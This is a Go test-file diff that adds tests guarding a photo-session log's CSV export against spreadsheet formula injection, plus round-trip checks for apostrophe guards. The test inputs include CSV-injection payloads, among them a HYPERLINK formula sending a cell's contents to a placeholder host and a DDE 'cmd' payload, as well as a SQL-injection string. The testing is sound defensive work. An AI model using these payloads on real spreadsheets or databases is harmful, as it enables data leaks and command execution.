@@ -11,6 +11,7 @@ import (
 	"path/filepath"
 	"reflect"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -20,7 +21,7 @@ import (
 
 // awkward are texts that formats stumble over.
 var awkward = []string{
-	"", "plain", "a,b", `"quoted"`, "two\r\nlines", "two\nlines", "one\rline", "\r", " spaces ", "=1+1", "שלום", "🌰 e\u0301", "tab\t", "nul\x00nul", "'; DROP TABLE setups; --", "<>&\u2028",
+	"", "plain", "a,b", `"quoted"`, "two\r\nlines", "two\nlines", "one\rline", "\r", " spaces ", "=1+1", "'=1+1", "-20 EV", "-20", "+1", "'tis", "''@a", "@ home", "שלום", "🌰 e\u0301", "tab\t", "nul\x00nul", "'; DROP TABLE setups; --", "<>&\u2028",
 }
 
 // richLog logs n sessions of made-up frames, groups, setups and edits, some undone.
@@ -242,6 +243,65 @@ func TestCSVRecords(t *testing.T) {
 	for _, text := range []string{`"open`, `a"b`, `"a"b`, "a\rb", `"a" ,b`} {
 		if got, err := readCSV(bufio.NewReader(strings.NewReader(text))); !errors.Is(err, session.ErrInvalid) {
 			t.Errorf("%q is read as %q, %v", text, got, err)
+		}
+	}
+}
+
+// TestTablesHoldNoFormula: no field of any table is run by a spreadsheet, by the first letters
+// that OWASP's ASVS 5.0, 1.2.10, and its page on CSV injection name; what is a number stays one.
+func TestTablesHoldNoFormula(t *testing.T) {
+	s := newLog(t)
+	texts := []string{`=HYPERLINK("http://invalid/?"&A1)`, "+cmd|' /C x'!A1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uFF1D1+1", "'=1+1", "-20", "−20", "'tis"}
+	id := newSession(t, s, "/pictures/a")
+	for _, text := range texts {
+		logSetup(t, s, id, session.Setup{Subject: text, Lights: []session.Light{{Kind: session.LightLED, ElevationDeg: -12.5, Modifier: text}}})
+	}
+	dir := t.TempDir()
+	if err := s.ExportCSV(t.Context(), dir, nil); err != nil {
+		t.Fatal(err)
+	}
+	numbers := 0
+	for _, f := range csvFiles {
+		data, err := os.ReadFile(filepath.Join(dir, f.name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, record := range records {
+			for _, field := range record {
+				_, err := strconv.ParseFloat(field, 64)
+				if err == nil && strings.HasPrefix(field, "-") {
+					numbers++
+				}
+				if err != nil && field != "" && strings.ContainsRune("=+-@\t\r\n\uFF1D", []rune(field)[0]) {
+					t.Errorf("%s: %q", f.name, field)
+				}
+			}
+		}
+	}
+	if want := len(texts) + 2; numbers != want { // the heights, and "-20" twice
+		t.Errorf("%d negative numbers, want %d", numbers, want)
+	}
+	other := newLog(t)
+	if _, err := other.ImportCSV(t.Context(), dir, nil); err != nil {
+		t.Fatal(err)
+	}
+	sameLog(t, other, s)
+}
+
+// TestApostrophesOfOlderTablesStay: those were written without a guard.
+func TestApostrophesOfOlderTablesStay(t *testing.T) {
+	for _, text := range []string{"'tis", "'", "''", "'a", "=1", "-20", ""} {
+		if got := unguarded(text); got != text {
+			t.Errorf("%q is read as %q", text, got)
+		}
+	}
+	for _, text := range append(awkward, "'", "''=", "'-1", "-1", "='") {
+		if got := unguarded(guarded(text)); got != text {
+			t.Errorf("%q comes back as %q", text, got)
 		}
 	}
 }
